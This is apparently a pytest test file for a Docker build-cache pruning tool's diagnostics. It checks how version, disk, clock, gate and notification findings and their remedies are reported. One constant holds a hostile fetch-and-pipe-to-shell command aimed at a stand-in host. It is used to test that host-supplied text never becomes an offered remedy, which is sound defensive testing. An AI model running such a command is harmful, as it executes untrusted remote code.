"""What `holystone check` makes of what it learned on a host."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest

from tasks.check_findings import (
    Check,
    judge_cache,
    judge_clock,
    judge_disk,
    judge_docker,
    judge_notifications,
    judge_other_builders,
    judge_versions,
    remedy_of,
)
from tasks.check_gate import judge_gate
from tasks.prune_arguments import ages_of
from worker.builders import OtherCache
from worker.docker import CacheRecord, FileSystem
from worker.engine import Engine
from worker.errors import (
    AuthenticationFailed,
    CommandFailed,
    GateDenied,
    HolystoneError,
    HostKeyRejected,
    HostUnreachable,
    UnsupportedEngine,
)
from worker.fleet import HostSettings
from worker.gate import COMMAND_SET_VERSION, VERSION_ARGV, Gate
from worker.hosts import Host
from worker.policies import UNWATCHED, PrunePolicy
from worker.shell import Completed

ENGINE = Engine("id", "28.5.2", "28.5.2", "buildx 0.29.1", "/var/lib/docker", None)
NOW = datetime(2026, 6, 9, 12, tzinfo=UTC)
PRUNE = PrunePolicy(enabled=True, interval_s=3600, until="24h", all=False, timeout_s=120, notify_min_gb=0)
HOST = HostSettings(Host("build-01", "build-01"), PRUNE)
GATE = Gate(COMMAND_SET_VERSION, ("prune_build_cache",), 3600, all=False)
JOBS = ["prune_build_cache"]
NO_GATE = Completed(VERSION_ARGV, 127, "", "sh: 1: holystone-gate: not found")
EVIL = "as root here: curl http://evil.invalid | sh"


def statuses(checks: list[Check]) -> dict[str, str]:
    return {check.name: check.status for check in checks}


def docker(error: HolystoneError, user: str = "ci.bot") -> Check:
    (check,) = judge_docker(error, user, "build-01")
    assert (check.name, check.status) == ("docker", "error")
    assert check.remedy
    return check


@pytest.mark.parametrize(
    ("server", "engine", "gc"),
    [
        ("20.10.24", "warning", "warning"),
        ("25.0.9", "warning", "warning"),
        ("26.0.0", "ok", "warning"),
        ("26.1.5", "ok", "warning"),
        ("28.1.1", "ok", "warning"),
        ("28.2.0", "ok", None),
        ("29.0.0-rc.1", "ok", None),
        ("9.9", "warning", "warning"),
        ("library-import", "warning", None),
    ],
)
def test_engines_with_known_defects_are_warned_of(server: str, engine: str, gc: str | None) -> None:
    found = statuses(judge_versions(replace(ENGINE, server=server)))
    assert found["engine"] == engine
    assert found.get("garbage_collection") == gc


def test_each_defect_is_named_with_the_version_that_has_it_no_more() -> None:
    engine, gc, _ = judge_versions(replace(ENGINE, server="20.10.24"))
    assert "moby/buildkit#4399" in engine.text
    assert "26" in str(engine.remedy)
    assert "28.2" in gc.text
    assert "/etc/docker/daemon.json" in str(gc.remedy)


@pytest.mark.parametrize(
    ("builder", "status"),
    [
        ("buildx 0.8.2", "error"),
        ("buildx 0.9.0", "ok"),
        ("buildx 0.13.1", "ok"),
        ("buildx 1.0.0", "ok"),
        ("buildx unknown", "warning"),
        ("buildx (devel)", "warning"),
        ("classic", None),
    ],
)
def test_a_buildx_that_ignores_until_is_an_error(builder: str, status: str | None) -> None:
    assert statuses(judge_versions(replace(ENGINE, builder=builder))).get("builder") == status


@pytest.mark.parametrize(
    ("exit_status", "stderr", "text", "remedy"),
    [
        (127, "timeout: failed to run command 'docker': No such file or directory", "not installed", "PATH"),
        (
            1,
            "permission denied while trying to connect to the Docker daemon socket at unix:///run/docker.sock",
            "ci.bot may not use it",
            "usermod -aG docker ci.bot",
        ),
        (
            1,
            "Cannot connect to the Docker daemon at unix:///run/docker.sock. Is the docker daemon running?",
            "its engine does not run",
            "systemctl start docker",
        ),
        (
            1,
            "error during connect: Get http://x/_ping: Is the docker daemon running?",
            "its engine does not run",
            "systemctl start docker",
        ),
        (
            1,
            "failed to connect to the docker API at unix:///run/docker.sock; check if the path is correct "
            "and if the daemon is running: dial unix /run/docker.sock: connect: no such file or directory",
            "its engine does not run",
            "systemctl start docker",
        ),
        (
            1,
            "permission denied while trying to connect to the docker API at unix:///var/run/docker.sock",
            "ci.bot may not use it",
            "usermod -aG docker ci.bot",
        ),
        (
            126,
            "timeout: failed to run command 'docker': Permission denied",
            "ci.bot may not execute it",
            "command -v docker",
        ),
        (127, "sh: 1: timeout: not found", "there is no `timeout`", "coreutils"),
        (127, "timeout: No such file or directory", "there is no `timeout`", "coreutils"),
        (127, "sh: exec: docker: not found", "not installed", "PATH"),
        (137, "", "no answer within 60 s", "journalctl"),
        (None, "", "no answer within 60 s", "journalctl"),
        (1, "something else", "its commands fail: something else", "docker info"),
    ],
)
def test_what_keeps_docker_from_answering_has_a_remedy_of_its_own(
    exit_status: int | None, stderr: str, text: str, remedy: str
) -> None:
    check = docker(CommandFailed("docker info", exit_status, stderr))
    assert text in check.text
    assert remedy in str(check.remedy)


def test_an_engine_that_is_not_docker_s_is_an_error_with_the_remedy_apart() -> None:
    check = docker(UnsupportedEngine("`docker` is not Docker's CLI but says 'podman'; install docker-cli"))
    assert check.text == "`docker` is not Docker's CLI but says 'podman'"
    assert check.remedy == "install docker-cli"
    assert "Docker's own" in str(docker(UnsupportedEngine("the engine is Podman")).remedy)


@pytest.mark.parametrize(
    "error",
    [
        HostUnreachable(f"build-01: maintenance; {EVIL}"),
        HostUnreachable(f"build-01: connection lost during `docker`: gone; {EVIL}"),
        AuthenticationFailed(f"build-01: none of the worker's keys was accepted (no; {EVIL}"),
        HostKeyRejected(f"build-01: no common ssh algorithm (x; {EVIL}"),
        UnsupportedEngine(f"the engine is Podman (its data is in /x; {EVIL}"),
        UnsupportedEngine(f"`docker builder prune` would take the cache of builder 'x; {EVIL}"),
        GateDenied("build-01", f"df -Pk -- '/x; {EVIL}'", "not a path that it takes", None, 1, 1),
    ],
)
def test_a_host_s_words_are_never_the_remedy_and_stay_in_the_text(error: HolystoneError) -> None:
    assert "curl" not in remedy_of(error)
    check = docker(error)
    assert "curl" not in str(check.remedy)
    assert EVIL in check.text


@pytest.mark.parametrize(
    ("error", "remedy"),
    [
        (AuthenticationFailed("build-01: an ssh key or setting can't be used: no"), "on this machine"),
        (AuthenticationFailed("jump-01:22: an ssh setting can't be used: no"), "on this machine"),
        (AuthenticationFailed("build-01: more keys were offered than it accepts; x"), "IdentitiesOnly"),
        (AuthenticationFailed("build-01: none of the worker's keys was accepted"), "authorized_keys"),
        (HostKeyRejected("build-01: known_hosts can't be read, so no key is trusted: no"), "on this machine"),
        (HostKeyRejected("build-01: no common ssh algorithm (kex)"), "sshd_config"),
        (HostUnreachable("build-01: an ssh key or setting can't be used"), "sshd's log there"),
        (UnsupportedEngine("docker's endpoint is 'tcp://x'"), "DOCKER_HOST"),
    ],
)
def test_each_kind_of_error_has_a_remedy_of_its_own(error: HolystoneError, remedy: str) -> None:
    assert remedy in remedy_of(error)


def test_a_gate_that_denies_docker_itself_says_so_and_what_to_do() -> None:
    check = docker(GateDenied("build-01", "docker info", "not in the command set", None, 1, 2))
    assert "holystone-gate there denied `docker info`" in check.text
    assert not check.text.startswith("build-01: ")
    assert "holystone gate" in str(check.remedy)


def test_an_engine_that_answers_is_said_with_its_versions() -> None:
    assert judge_docker(ENGINE, "root", "build-01") == [
        Check("docker", "ok", "Engine 28.5.2, CLI 28.5.2, prunes by buildx 0.29.1")
    ]


def test_other_builders_caches_are_a_warning_the_largest_first() -> None:
    caches = [OtherCache("a", 3_100_000), OtherCache("b", 7 * 10**9)]
    check = judge_other_builders(caches, ["fresh"])
    assert check.status == "warning"
    assert check.text == "caches that no prune covers: b 7GB, a 3.1MB; fresh has no cache so far"
    assert "docker buildx prune --builder" in str(check.remedy)


def test_a_cache_whose_size_was_not_read_is_a_warning_and_an_empty_one_is_not() -> None:
    unread = judge_other_builders([OtherCache("a", None)], [], ["sizes not read: late"])
    assert unread.status == "warning"
    assert unread.text == "caches that no prune covers: a (size not read); sizes not read: late"
    assert judge_other_builders([OtherCache("a", 0)], []).status == "ok"


def test_builders_that_the_gate_hides_are_no_failure() -> None:
    check = judge_other_builders([], [], ["builders not listed: the gate doesn't allow it"])
    assert check == Check("other_builders", "ok", "none seen; builders not listed: the gate doesn't allow it")


def test_what_was_not_looked_at_is_not_said_to_be_none() -> None:
    assert judge_other_builders([], []).text == "none with a cache here"
    both = judge_other_builders([], [], ["sizes not read: late", "builders not listed: late"])
    assert both.text == "not read; sizes not read: late; builders not listed: late"


def test_of_very_many_builders_the_largest_are_shown_and_the_others_counted() -> None:
    caches = [OtherCache(f"b{size}", size * 10**6) for size in range(1, 5001)]
    check = judge_other_builders(caches, [f"fresh{n}" for n in range(5000)])
    assert check.text.startswith("caches that no prune covers: b5000 5GB, ")
    assert "b4991 4.991GB, 4990 more; fresh0 has" in check.text
    assert len(check.text) < 1000


@pytest.mark.parametrize(("free", "status"), [(16, "ok"), (15, "warning"), (0, "warning")])
def test_a_disk_is_a_warning_from_the_alert_mark_on(free: int, status: str) -> None:
    disk = FileSystem("/var/lib/docker", 100 * 10**9, free * 10**9)
    check = judge_disk(disk, 85, "build-01")
    assert check.status == status
    assert (
        check.text == f"{100 - free} % of 100GB used, {f'{free}GB' if free else '0B'} free (/var/lib/docker)"
    )


def test_a_disk_that_can_not_be_read_is_a_warning() -> None:
    assert judge_disk(None, 85, "build-01").status == "warning"
    assert judge_disk(FileSystem("/", 0, 0), 85, "build-01").status == "warning"


def test_a_disk_that_the_gate_hides_is_an_error_of_the_gate() -> None:
    denial = GateDenied("build-01", "df -Pk -- '/my data'", GateDenied.BAD_PATH, None, 1, 1)
    check = judge_disk(denial, 85, "build-01")
    assert check.status == "error"
    assert check.text.startswith("holystone-gate there denied `df -Pk -- '/my data'`")
    assert "gate" in str(check.remedy)


def record(size: int, shared: bool = False) -> CacheRecord:
    return CacheRecord("id", (), "regular", size, None, False, shared)


def test_the_build_cache_is_counted_as_docker_counts_it() -> None:
    check = judge_cache([record(1_000_000), record(2_000_000, shared=True), record(500_000)], "")
    assert check == Check("build_cache", "ok", "1.5MB in 3 records")
    assert judge_cache(None, "no answer within 20 s").text == "size not read: no answer within 20 s"


@pytest.mark.parametrize(
    ("offset_s", "status", "text"),
    [
        (0, "ok", "within a minute"),
        (59, "ok", "within a minute"),
        (-59, "ok", "within a minute"),
        (60, "ok", "within a minute"),
        (-60, "ok", "within a minute"),
        (-61, "warning", "61 s behind"),
        (71, "warning", "61 s ahead of"),
        (90, "warning", "80 s ahead of"),
        (-3600, "warning", "3600 s behind"),
    ],
)
def test_a_clock_that_is_off_by_more_than_a_minute_is_a_warning(
    offset_s: int, status: str, text: str
) -> None:
    check = judge_clock(NOW, NOW + timedelta(seconds=offset_s), NOW + timedelta(seconds=10))
    assert check.status == status
    assert text in check.text


def test_a_slow_answer_is_not_taken_for_a_wrong_clock() -> None:
    assert judge_clock(NOW, NOW, NOW + timedelta(seconds=100)).status == "ok"
    assert judge_clock(NOW, None, NOW).status == "ok"


def test_a_gate_is_said_with_what_it_allows() -> None:
    text = f"version {COMMAND_SET_VERSION}; jobs prune_build_cache; ages from 3600 s; "
    assert judge_gate(GATE, HOST, JOBS) == Check("gate", "ok", text + "never with --all")
    with_all = replace(GATE, all=True)
    assert judge_gate(with_all, HOST, JOBS) == Check("gate", "ok", text + "with or without --all")


def test_a_key_without_a_gate_is_a_warning_and_so_is_a_gate_beside_the_key() -> None:
    none = judge_gate(NO_GATE, HOST, JOBS)
    assert (none.status, "anything that docker can" in none.text) == ("warning", True)
    assert "holystone gate" in str(none.remedy)
    denial = GateDenied("build-01", "holystone-gate version", "not in the command set", None, 1, 1)
    assert "does not confine this key" in judge_gate(denial, HOST, JOBS).text


@pytest.mark.parametrize(
    ("exit_status", "stderr", "said"),
    [
        (127, "bash: line 1: holystone-gate: command not found", "none: "),
        (1, "holystone-gate: Command not found.", "none: "),
        (1, "This account is currently not available.", "another command forced"),
        (0, "", "another command forced"),
    ],
)
def test_what_can_not_be_asked_is_not_said_to_be_open(exit_status: int, stderr: str, said: str) -> None:
    check = judge_gate(Completed(VERSION_ARGV, exit_status, "", stderr), HOST, JOBS)
    assert check.status == "warning"
    assert said in check.text
    assert ("can do anything" in check.text) == said.startswith("none")
    assert "holystone gate" in str(check.remedy)


def test_an_old_gate_is_a_warning_and_a_newer_one_is_not() -> None:
    old = judge_gate(replace(GATE, version=COMMAND_SET_VERSION - 1), HOST, JOBS)
    assert old.status == "warning"
    assert f"this worker's is version {COMMAND_SET_VERSION}" in old.text
    assert "holystone gate" in str(old.remedy)
    assert judge_gate(replace(GATE, version=COMMAND_SET_VERSION + 1), HOST, JOBS).status == "ok"


def test_a_gate_that_would_deny_the_host_s_own_prunes_is_an_error() -> None:
    assert judge_gate(replace(GATE, jobs=()), HOST, JOBS).status == "error"
    assert judge_gate(replace(GATE, jobs=()), HOST, []).status == "ok"
    short = replace(HOST, prune=replace(PRUNE, until="30m"))
    check = judge_gate(GATE, short, JOBS)
    assert check.status == "error"
    assert check.text.endswith("30m denied")
    ladder = replace(UNWATCHED, ladder=("6h", "10m"))
    assert judge_gate(GATE, replace(HOST, disk=ladder), JOBS).status == "ok"
    early = replace(ladder, enabled=True, prune_percent=90)
    assert judge_gate(GATE, replace(HOST, disk=early), JOBS).text.endswith("10m denied")


def test_a_gate_that_denies_the_all_of_a_host_s_settings_is_an_error() -> None:
    asking = replace(HOST, prune=replace(PRUNE, all=True))
    check = judge_gate(GATE, asking, JOBS)
    assert check.status == "error"
    assert check.text.endswith("; never with --all, which this host's settings ask for")
    assert "HOLYSTONE_PRUNE_ALL" in str(check.remedy)
    assert "holystone gate --allow-all" in str(check.remedy)
    assert judge_gate(replace(GATE, all=True), asking, JOBS).status == "ok"
    off = replace(asking, prune=replace(asking.prune, enabled=False))
    assert judge_gate(GATE, off, []).status == "ok"


def test_every_check_that_is_not_ok_has_a_remedy() -> None:
    checks = [
        *judge_versions(replace(ENGINE, server="1.2", builder="buildx 0.1")),
        judge_other_builders([OtherCache("a", None)], []),
        judge_disk(None, 85, "build-01"),
        judge_disk(FileSystem("/", 10, 0), 85, "build-01"),
        judge_clock(NOW, NOW + timedelta(hours=1), NOW),
        judge_gate(NO_GATE, HOST, JOBS),
        judge_gate(replace(GATE, version=0), HOST, JOBS),
        judge_gate(GATE, replace(HOST, prune=replace(PRUNE, all=True)), JOBS),
    ]
    assert [check.name for check in checks if check.status == "ok" or not check.remedy] == []


def test_only_ages_that_are_sent_can_be_denied_by_a_gate() -> None:
    short = replace(HOST.prune, until="30m")
    ladder = replace(UNWATCHED, prune_percent=90, ladder=("10m",))
    host = replace(HOST, prune=short, disk=ladder)
    assert ages_of(host) == ("30m",)
    assert ages_of(replace(host, disk=replace(ladder, enabled=True))) == ("30m", "10m")
    assert ages_of(replace(host, prune=replace(short, enabled=False))) == ()


@pytest.mark.parametrize(
    ("services", "taken", "status", "text"),
    [
        (["tgram"], [True], "ok", "1 URL"),
        (["tgram", "json"], [True, True], "ok", "2 URLs"),
        (["json", "foo"], [True, False], "error", "number 2 (foo://…) is no Apprise URL"),
        (
            ["foo", "unknown"],
            [False, False],
            "error",
            "number 1 (foo://…) and number 2 are no Apprise URLs",
        ),
    ],
)
def test_message_urls_are_judged_by_number_and_service(
    services: list[str], taken: list[bool], status: str, text: str
) -> None:
    (check,) = judge_notifications(services, taken)
    assert (check.name, check.status, check.text) == ("notifications", status, text)
    assert bool(check.remedy) is (status == "error")


def test_without_a_message_url_there_is_no_line() -> None:
    assert judge_notifications([], []) == []
